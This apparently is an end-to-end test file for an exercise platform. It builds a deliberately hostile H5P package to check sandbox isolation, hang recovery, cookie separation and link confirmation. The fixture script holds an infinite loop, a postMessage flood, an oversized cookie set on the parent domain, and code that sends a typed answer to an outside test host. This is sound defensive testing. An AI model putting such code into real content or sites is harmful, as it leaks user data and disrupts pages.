import type { Page } from 'playwright-core';
import { ulid } from 'ulid';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Client } from '../../functions/contract/client.ts';
import type { Exercise } from '../../functions/contract/exercises.ts';
import { libraryJson, samplePackage } from '../../functions/exercises/compiler/testing/sample-package.ts';
import type { Stranger } from '../../functions/exercises/compiler/testing/stranger.ts';
import { startStranger } from '../../functions/exercises/compiler/testing/stranger.ts';
import { compiled } from '../../infra/local/demonstration/seed/packages.ts';
import { testCloud } from '../cloud.ts';
import { approveFor, sendPackage } from '../factories/exercises.ts';
import { signIn, useTablets } from './tablet.ts';

const tablets = useTablets();
let stranger: Stranger;

beforeAll(async () => {
  stranger = await startStranger();
});
afterAll(() => stranger.close());

/** Keeps an answer as an exercise does, and means harm once it is told to. */
const script = (name: string) => `function ${name}(params, id, extras) {
  const input = Object.assign(document.createElement('input'), { value: extras?.previousState ?? '' });
  const button = (text, action) => {
    const made = Object.assign(document.createElement('button'), { textContent: text, onclick: action });
    return made;
  };
  this.getCurrentState = () => input.value;
  this.attach = (container) => container.append(
    input,
    // Its last state is told a second after the last change.
    button('loop', () => setTimeout(() => { for (;;); }, 1500)),
    Object.assign(document.createElement('a'), {
      textContent: 'link',
      href: '${stranger.origin}/',
      onclick: (event) => { event.target.search = 'answer=' + input.value; },
    }),
    button('flood', () => {
      for (let count = 0; count < 1000; count += 1) {
        parent.postMessage({ channel: 'chjassu-exercise', type: 'link', address: '${stranger.origin}/' + count }, '*');
      }
    }),
    button('leave', () => { location.href = '${stranger.origin}/?answer=' + input.value; }),
    button('toss', () => {
      const realm = document.body.appendChild(document.createElement('iframe')).contentDocument;
      realm.cookie = 'tossed=' + 'x'.repeat(4000) + '; domain=' + location.hostname.split('.').slice(2).join('.');
      parent.postMessage({ tossed: realm.cookie.length }, '*');
    }),
  );
}`;

function hostilePackage(): Promise<Buffer> {
  const name = `Hostile${ulid()}`;
  const main = { machineName: name, majorVersion: 1, minorVersion: 0 };
  return samplePackage({
    'h5p.json': { title: 'x', language: 'co', mainLibrary: name, embedTypes: ['div'], preloadedDependencies: [main] },
    'content/content.json': {},
    'content/images/sun.png': undefined,
    [`${name}-1.0/library.json`]: libraryJson(name, '1.0.0', { preloadedJs: [{ path: 'hostile.js' }] }),
    [`${name}-1.0/semantics.json`]: [],
    [`${name}-1.0/hostile.js`]: script(name),
  });
}

async function hostileExercise(client: Client, title: string): Promise<Exercise> {
  const exercise = ulid();
  const upload = await sendPackage(client, exercise, await hostilePackage());
  await client.exercises.putExercise({ params: { exercise }, body: { title, upload } });
  return compiled(client, exercise);
}

/** Two exercises in their previews: one that was approved, one that nobody has approved. */
async function openBoth(page: Page) {
  const teacher = (await testCloud().signIn('secondTeacher')).client;
  const administrator = (await testCloud().signIn('territoryAdministrator')).client;
  const names = { approved: `Appruvatu ${ulid()}`, trial: `Da pruvà ${ulid()}` };
  await approveFor(administrator, teacher, await hostileExercise(teacher, names.approved));
  await hostileExercise(teacher, names.trial);
  await page.goto('/exercises');
  await signIn(page, 'secondTeacher');
  return Object.values(names).map((name) => {
    const item = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name, exact: true }) });
    return { item, frame: page.frameLocator(`iframe[title="${name}"]`) };
  });
}

it('goes on while exercises loop for ever, offers to close them, and has kept what was answered', async () => {
  const page = await tablets.open();
  const both = await openBoth(page);
  for (const { item, frame } of both) {
    await item.getByRole('button', { name: 'Aperçu' }).click();
    await frame.getByRole('textbox').fill('bonghjornu');
  }
  for (const { frame } of both) await frame.getByRole('button', { name: 'loop' }).click();
  for (const { item, frame } of both) {
    await item.getByRole('alert').getByText('L’exercice ne répond plus.').waitFor();
    await item.getByRole('button', { name: 'Fermer l’exercice' }).click();
    await item.locator('iframe').waitFor({ state: 'detached' });
    await item.getByRole('button', { name: 'Rouvrir l’exercice' }).click();
    expect(await frame.getByRole('textbox').inputValue()).toBe('bonghjornu');
  }
});

it('leaves no cookie of an exercise on the application, and no answer outside', async () => {
  const page = await tablets.open();
  const [approved] = await openBoth(page);
  await page.evaluate('addEventListener("message", ({ data }) => { if (data.tossed) window.tossed = data.tossed; })');
  await approved!.item.getByRole('button', { name: 'Aperçu' }).click();
  await approved!.frame.getByRole('textbox').fill('secretu');
  await approved!.frame.getByRole('button', { name: 'toss' }).click();
  await page.waitForFunction('window.tossed > 4000');
  const cookies = async () => (await page.context().cookies()).map(({ name }) => name);
  await expect.poll(cookies, { timeout: 10_000 }).not.toContain('tossed');
  expect(await cookies()).toContain('__Host-session');
  await approved!.frame.getByRole('button', { name: 'leave' }).click();
  await page.waitForTimeout(700);
  expect(stranger.heard()).toEqual({ asked: [], connections: 0, datagrams: 0 });
});

it('leads out by a link only where the person has read where to, and said so', async () => {
  const page = await tablets.open();
  const dialog = page.getByRole('dialog', { name: `Aller sur ${new URL(stranger.origin).host} ?` });
  const address = `${stranger.origin}/?answer=secretu`;
  for (const { item, frame } of await openBoth(page)) {
    const { asked, connections } = stranger.heard();
    const before = asked.length;
    await item.getByRole('button', { name: 'Aperçu' }).click();
    await frame.getByRole('textbox').fill('secretu');
    await frame.getByRole('link').click();
    await dialog.getByText(address).waitFor();
    await page.keyboard.press('Enter');
    await dialog.waitFor({ state: 'detached' });
    await frame.getByRole('link').click();
    await dialog.waitFor();
    expect([asked.length, stranger.heard().connections]).toEqual([before, connections]);
    const [opened] = await Promise.all([
      page.waitForEvent('popup'),
      dialog.getByRole('button', { name: 'Ouvrir le site' }).click(),
    ]);
    await opened.waitForURL(address);
    expect(await opened.evaluate('[opener, document.referrer]')).toEqual([null, '']);
    await opened.close();
    expect(await frame.getByRole('textbox').inputValue()).toBe('secretu');
    await frame.getByRole('button', { name: 'flood' }).click();
    await dialog.waitFor();
    expect(await page.getByRole('dialog').count()).toBe(1);
    await dialog.getByRole('button', { name: 'Rester' }).click();
  }
});
